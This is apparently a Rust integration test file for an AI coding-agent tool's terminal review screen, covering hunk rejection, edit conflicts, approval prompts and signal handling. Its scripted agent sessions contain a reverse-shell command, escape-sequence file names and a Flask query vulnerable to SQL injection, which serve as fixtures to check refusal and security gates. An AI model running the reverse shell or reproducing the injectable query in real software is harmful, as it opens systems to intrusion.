//! The screens, driven with keys and mouse in a real terminal.

use std::path::Path;

use kode_testkit::TerminalSession;

use crate::tmux::Window;
use crate::workspace::Workspace;

const EDITS: &str = "turns:\n  - calls:\n      - tool: edit\n        args: {path: a.txt, old: \"two\", new: \"TWO\"}\n      - tool: edit\n        args: {path: a.txt, old: \"eleven\", new: \"ELEVEN\"}\n      - tool: shell\n        args: {command: \"printf 'made\\\\n' > b.txt && rm c.txt && printf x > \\\"$(printf 'e\\\\033[31mvil')\\\"\"}\n  - calls:\n      - tool: finish\n        args: {summary: done}\n";
const BEFORE: &str = "one\ntwo\nthree\n4\n5\n6\n7\n8\n9\nten\neleven\n";

fn reviewed() -> Workspace {
    let workspace = Workspace::new();
    workspace.write("a.txt", BEFORE);
    workspace.write("c.txt", "kept\n");
    workspace.run_script(EDITS, &[]).expect(0);
    workspace
}

#[test]
fn a_file_is_rejected_by_two_clicks_a_hunk_by_a_key_and_u_brings_back() {
    let workspace = reviewed();
    let Some(window) = Window::start(&workspace, (100, 24), "review") else { return };
    window.wait_for("hunk 2 of 2");
    assert!(window.screen().contains("e\\e[31mvil"), "{}", window.screen());

    window.key("]");
    window.wait_for("▶ hunk 2 of 2");
    window.key("X");
    window.wait_for("rejected hunk 2 of a.txt");
    assert_eq!(workspace.read("a.txt"), BEFORE.replace("two", "TWO"));

    window.click_cross("c.txt");
    window.wait_for("✕?");
    assert!(!workspace.project().join("c.txt").exists());
    window.click_cross("c.txt");
    window.wait_for("rejected c.txt");
    assert_eq!(workspace.read("c.txt"), "kept\n");

    window.key("u");
    window.wait_for("brought back c.txt");
    assert!(!workspace.project().join("c.txt").exists());
    window.key("q");
    window.wait_for("ended with 0");
}

#[test]
fn an_edit_of_the_same_lines_is_a_conflict_and_no_byte_of_it_is_lost() {
    let workspace = reviewed();
    let Some(window) = Window::start(&workspace, (80, 24), "review") else { return };
    window.wait_for("▶ hunk 1 of 2");
    let mine = BEFORE.replace("two", "TWO, but mine").replace("eleven", "ELEVEN");
    workspace.write("a.txt", &mine);
    window.key("X");
    let conflict = window.wait_for("a.txt, line 2: you edited lines of hunk 1 there since");
    for expected in [
        "before, line 2:",
        "the agent wrote, line 2:",
        "on the disk now, line 2:",
        "  TWO, but mine",
    ] {
        assert!(conflict.contains(expected), "{expected} in:\n{conflict}");
    }
    assert_eq!(workspace.read("a.txt"), mine);
    // What a person edited is theirs from here on: one hunk of the agent's is left.
    window.key("n");
    let shown = window.wait_for("▶ hunk 1 of 1");
    // Both sides of what met stay in sight.
    for expected in ["‼ a.txt, line 2: you edited", "    two", "    TWO", "    TWO, but mine"] {
        assert!(shown.contains(expected), "{expected} in:\n{shown}");
    }
    window.key("X");
    window.wait_for("rejected hunk 1");
    assert_eq!(workspace.read("a.txt"), BEFORE.replace("two", "TWO, but mine"));
}

#[test]
fn resizing_never_breaks_it_and_a_tiny_terminal_says_so() {
    let workspace = reviewed();
    let Some(window) = Window::start(&workspace, (80, 24), "review") else { return };
    window.wait_for("hunk 2 of 2");
    window.resize(20, 5);
    window.wait_for("this one is 20×5");
    window.resize(300, 50);
    window.wait_for("hunk 2 of 2");
    window.key("q");
    window.wait_for("ended with 0");
}

#[test]
fn with_list_or_without_a_terminal_it_prints() {
    let workspace = reviewed();
    let output = workspace.kode(&["review"]).output().unwrap();
    assert!(String::from_utf8_lossy(&output.stdout).contains("M a.txt +2 -2"));
    let Some(window) = Window::start(&workspace, (80, 24), "review --list") else { return };
    window.wait_for("M a.txt +2 -2");
    window.wait_for("ended with 0");
}

const SESSION: &str = r#"
model: test
turns:
  - text: "I look at **it** first. \e]0;title\a"
    calls:
      - tool: edit
        args: {path: a.txt, old: "two", new: "TWO"}
      - tool: edit
        args: {path: a.txt, old: "eleven", new: "ELEVEN"}
      - tool: shell
        args: {command: "for n in 1 2 3 4 5 6 7; do printf x > file$n.txt; done"}
      - tool: shell
        args: {command: "perl -e 'open(F, q(>made)); print F q(x)'", description: "makes a file"}
      - tool: shell
        args: {command: "bash -i >& /dev/tcp/127.0.0.1/9 0>&1"}
      - tool: write_file
        args: {path: app.py, content: "from flask import request\nimport sqlite3\n\ndef find():\n    name = request.args.get('name')\n    db = sqlite3.connect('a.db')\n    return db.execute(\"SELECT * FROM users WHERE name = '\" + name + \"'\").fetchall()\n"}
  - calls:
      - tool: finish
        args: {summary: done}
  - calls:
      - tool: write_file
        args: {path: app.py, content: "def find():\n    return []\n", allow_shrink: true}
      - tool: finish
        args: {summary: mended}
  - cases:
      - when: { anywhere: "rejected your changes in: file3.txt" }
        text: I see what you took back.
        calls: [{tool: finish, args: {summary: again}}]
      - text: I see nothing.
        calls: [{tool: finish, args: {summary: blind}}]
"#;

fn start_session(workspace: &Workspace, script: &str) -> Option<Window> {
    let path = workspace.beside("script.yaml");
    std::fs::write(&path, script).unwrap();
    Window::start(workspace, (120, 40), &format!("--script '{}'", path.display()))
}

/// Longer than the 200 ms in which keys don't count.
fn settle() {
    std::thread::sleep(std::time::Duration::from_millis(400));
}

#[test]
fn a_session_from_approval_over_a_red_gate_to_rejects_that_the_model_hears_of() {
    let workspace = Workspace::new();
    workspace.write("a.txt", BEFORE);
    let Some(window) = start_session(&workspace, SESSION) else { return };
    window.wait_for("ready");
    window.line("please do it");
    let asked = window.wait_for("[A]pprove [D]eny [?] Context [T]rust session:");
    for expected in [
        "Risk: code_execution",
        "Run: perl -e 'open(F, q(>made)); print F q(x)'",
        "Why: makes a file",
    ] {
        assert!(asked.contains(expected), "{expected} in:\n{asked}");
    }
    assert!(!workspace.project().join("made").exists());
    settle();
    window.key("a");
    let ended = window.wait_for("● done");
    for expected in
        ["✖ refused shell bash -i", "round 1: red", "round 2: green", "10 files", "\\e]0;title"]
    {
        assert!(ended.contains(expected), "{expected} in:\n{ended}");
    }
    assert_eq!(workspace.read("made"), "x");

    window.key("Tab");
    window.wait_for("hunk 2 of 2");
    window.key("]");
    window.wait_for("▶ hunk 2 of 2");
    window.key("X");
    window.wait_for("rejected hunk 2 of a.txt");
    window.click_cross("file3.txt");
    window.wait_for("✕?");
    window.click_cross("file3.txt");
    window.wait_for("rejected file3.txt");
    assert_eq!(workspace.read("a.txt"), BEFORE.replace("two", "TWO"));
    assert!(!workspace.project().join("file3.txt").exists());
    assert_eq!(workspace.read("file4.txt"), "x");
    window.key("u");
    window.wait_for("brought back file3.txt");
    assert_eq!(workspace.read("file3.txt"), "x");
    window.key("x");
    window.wait_for("rejected file3.txt");
    assert!(!workspace.project().join("file3.txt").exists());

    window.key("q");
    window.line("and now?");
    window.wait_for("I see what you took back.");
    window.wait_until("the second end", |screen| screen.contains("● done · 1 turn ·"));
    window.line("/quit");
    let left = window.wait_for("ended with 0");
    assert!(left.contains("kode continue --id"), "{left}");
    let sent = journal(&workspace);
    for told in ["rejected your change number 2 in a.txt", "rejected your changes in: file3.txt"] {
        assert!(sent.contains(told), "{told} in:\n{sent}");
    }
}

/// What the session's conversation holds.
fn journal(workspace: &Workspace) -> String {
    let mut sessions = std::fs::read_dir(workspace.kode_home().join("sessions")).unwrap();
    let folder = sessions.next().unwrap().unwrap().path();
    std::fs::read_to_string(folder.join("journal.jsonl")).unwrap()
}

#[test]
fn a_question_is_answered_by_no_key_typed_ahead() {
    let workspace = Workspace::new();
    workspace.write("a.txt", BEFORE);
    let Some(window) = start_session(&workspace, SESSION) else { return };
    window.wait_for("ready");
    window.line("go");
    window.line("aaaa");
    window.wait_for("[A]pprove");
    settle();
    assert!(!workspace.project().join("made").exists());
    window.key("d");
    window.wait_for("✖ denied shell perl");
    assert!(!workspace.project().join("made").exists());
}

const UNSCANNED: &str = "turns:\n  - calls:\n      - tool: write_file\n        args: {path: a.rb, content: \"puts 1\\n\"}\n  - label: again\n    calls:\n      - tool: finish\n        args: {summary: done}\n    goto: again\n";

#[test]
fn code_that_no_rule_reads_is_accepted_on_the_screen_or_leaves_it_red() {
    for (key, end) in [("a", "● done"), ("d", "you did not accept a.rb")] {
        let workspace = Workspace::new();
        let Some(window) = start_session(&workspace, UNSCANNED) else { return };
        window.wait_for("ready");
        window.line("go");
        let asked = window.wait_for("[A]pprove [D]eny [?] Context [T]rust session:");
        for expected in
            ["Accept: 1 file as they are, unscanned", "a.rb: no security rules for Ruby"]
        {
            assert!(asked.contains(expected), "{expected} in:\n{asked}");
        }
        settle();
        window.key("?");
        window.wait_for("sha256 82be84ab06491c73");
        settle();
        window.key(key);
        window.wait_for(end);
        window.line("/quit");
        window.wait_for("ended with ");
    }
}

#[test]
fn without_a_terminal_kode_alone_says_so_and_ends_with_2() {
    let output = Workspace::new().kode(&[]).output().unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("needs a terminal"));
}

#[test]
fn a_signal_ends_the_screen_and_gives_the_terminal_back() {
    let workspace = reviewed();
    for signal in ["-TERM", "-QUIT", "-ABRT"] {
        ends_by_signal(&workspace, signal);
    }
}

fn ends_by_signal(workspace: &Workspace, signal: &str) {
    let line = format!(
        "cd '{}' && exec env -i PATH=\"$PATH\" TERM=xterm HOME='{}' '{}' review",
        workspace.project().display(),
        workspace.user_home().display(),
        env!("CARGO_BIN_EXE_kode"),
    );
    let mut terminal = TerminalSession::start(Path::new("/bin/sh"), &["-c", &line], &[]).unwrap();
    terminal.wait_for("eleven").unwrap();
    assert!(!terminal.is_line_mode().unwrap());
    let process = terminal.process_id().to_string();
    std::process::Command::new("kill").args([signal, &process]).status().unwrap();
    assert!(terminal.wait_for_exit().unwrap().success());
    assert!(terminal.is_line_mode().unwrap());
    terminal.watch(std::time::Duration::from_millis(100)).unwrap();
    let output = terminal.output();
    for left in ["\u{1b}[?1049l", "\u{1b}[?2004l", "\u{1b}[?1000l"] {
        assert!(output.contains(left), "{left:?} is missing");
    }
}
